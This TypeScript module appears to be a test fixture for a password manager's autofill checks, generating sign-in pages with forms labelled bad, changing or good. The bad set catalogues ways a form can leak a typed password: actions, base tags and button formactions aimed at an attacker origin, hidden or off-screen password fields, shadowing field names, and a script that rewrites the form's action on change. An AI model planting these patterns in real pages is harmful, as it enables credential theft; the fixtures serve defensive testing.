import { type Html, html, page } from './page.ts';

type Form = {
  readonly attributes?: Html;
  readonly before?: Html;
  readonly within?: Html;
  readonly password?: Html;
  readonly button?: Html;
  readonly after?: Html;
};

const POST = html` method="post" action="/login"`;

/** Sign-in forms that send the password to a wrong place. No attacker's script is needed, unless noted. */
const BAD_FORMS = {
  'base-elsewhere': elsewhere => ({ before: html`<base href="${elsewhere}/">` }),
  'action-elsewhere': elsewhere => ({ attributes: html` method="post" action="${elsewhere}/login"` }),
  'action-hidden-by-field': elsewhere => ({
    attributes: html` method="post" action="${elsewhere}/login"`,
    within: html`<input type="hidden" name="action" value="/login"><input type="hidden" name="getAttribute">`,
  }),
  'button-elsewhere': elsewhere => ({ button: html` formaction="${elsewhere}/login"` }),
  'first-button-of-another-place': elsewhere => ({
    attributes: html` method="post" action="/login" id="form"`,
    before: html`<button form="form" formaction="${elsewhere}/login">Sign in now</button>`,
  }),
  'image-button-elsewhere': elsewhere => ({
    within: html`<input type="image" alt="Go" formaction="${elsewhere}/login">`,
  }),
  'query-hidden-by-field': elsewhere => ({
    within: html`<input type="hidden" name="querySelector">`,
    button: html` formaction="${elsewhere}/login"`,
  }),
  'method-get': () => ({ attributes: html` action="/login"` }),
  'method-hidden-by-field': () => ({
    attributes: html` method="get" action="/login"`,
    within: html`<input type="hidden" name="method" value="post">`,
  }),
  'method-dialog': () => ({ attributes: html` method="dialog" action="/login"` }),
  'button-get': () => ({ button: html` formmethod="get"` }),
  'new-window': () => ({ attributes: html` method="post" action="/login" target="_blank"` }),
  'named-frame': () => ({
    attributes: html` method="post" action="/login" target="inside"`,
    before: html`<iframe name="inside" src="/logout" title="Signed out"></iframe>`,
  }),
  'base-new-window': () => ({ before: html`<base target="_blank">` }),
  'button-new-window': () => ({ button: html` formtarget="_blank"` }),
  'field-of-another-form': elsewhere => ({
    before: html`<form id="other" method="post" action="${elsewhere}/login"></form>`,
    password: html` form="other"`,
  }),
  'hidden-field': () => ({ password: html` style="visibility: hidden"` }),
  'transparent-field': () => ({
    before: html`<div style="opacity: 0.1">`,
    password: html` style="opacity: 0.5"`,
    after: html`</div>`,
  }),
  'tiny-field': () => ({ password: html` style="width: 1px; height: 1px; padding: 0; border: 0"` }),
  'field-outside-the-page': () => ({ password: html` style="position: absolute; left: -9999px"` }),
  'field-not-drawn': () => ({ before: html`<details><summary>More</summary>`, after: html`</details>` }),
  /** By the page's own script, which can read typed passwords anyway. */
  'changed-as-it-is-filled': elsewhere => ({
    after: html`<script>
      document.querySelector('[type=password]').addEventListener('change', ({ target }) => (target.form.action = '${elsewhere}/login'));
    </script>`,
  }),
} as const satisfies Readonly<Record<string, (elsewhere: string) => Form>>;

/** Forms that become unsafe after they were checked. */
const CHANGING_FORMS = {
  /** The server redirects the POST, with the password in it. */
  'server-elsewhere': () => ({ attributes: html` method="post" action="/moved-login"` }),
  /** A form on a page of another origin that posts to the right one: the page's scripts could read typed passwords. */
  moved: elsewhere => ({
    attributes: html` method="post" action="${elsewhere.replace('localhost', '127.0.0.1')}/login"`,
  }),
  /** The same form in a frame and in the page. */
  framed: () => ({ after: html`<iframe src="/login" title="Sign in" width="300" height="400"></iframe>` }),
} as const satisfies Readonly<Record<string, (elsewhere: string) => Form>>;

/** Unusual forms that send the password to their own origin. */
const GOOD_FORMS = {
  /** WordPress names a field "action", which shadows the form's property. */
  'fields-named-like-properties': () => ({
    within: html`<input type="hidden" name="action" value="sign-in"><input type="hidden" name="method"><input type="hidden" name="target">
      <input type="hidden" name="elements"><input type="hidden" name="requestSubmit"><input type="hidden" name="querySelector">
      <input type="hidden" name="parentElement"><img name="querySelectorAll" alt="">`,
  }),
  'target-top': () => ({
    attributes: html` method="post" action="/login" target="_top"`,
    before: html`<base href="/assets/">`,
  }),
} as const satisfies Readonly<Record<string, (elsewhere: string) => Form>>;

export type BadFormName = keyof typeof BAD_FORMS;
export type FormName = BadFormName | keyof typeof CHANGING_FORMS | keyof typeof GOOD_FORMS;
export const BAD_FORM_NAMES = Object.keys(BAD_FORMS) as readonly BadFormName[];
export const GOOD_FORM_NAMES = Object.keys(GOOD_FORMS) as readonly FormName[];
export const isBadForm = (name: FormName): boolean => Object.hasOwn(BAD_FORMS, name);

const FORMS: Readonly<Record<FormName, (elsewhere: string) => Form>> = {
  ...BAD_FORMS,
  ...CHANGING_FORMS,
  ...GOOD_FORMS,
};

/** Sign-in page with one of these forms. `elsewhere` is the attacker's origin. */
export function formPage(name: FormName, elsewhere: string): string {
  const nothing = html``;
  const { attributes = POST, before = nothing, within = nothing, password = nothing } = FORMS[name](elsewhere);
  const { button = nothing, after = nothing } = FORMS[name](elsewhere);
  return page(
    'Sign in',
    html`<h1>Sign in</h1>
    ${before}
    <form${attributes}>
      ${within}
      <label for="user">User name</label>
      <input id="user" name="user" autocomplete="username">
      <label for="password">Password</label>
      <input id="password" name="password" type="password"${password}>
      <button type="submit"${button}>Sign in</button>
    </form>
    ${after}`,
  );
}
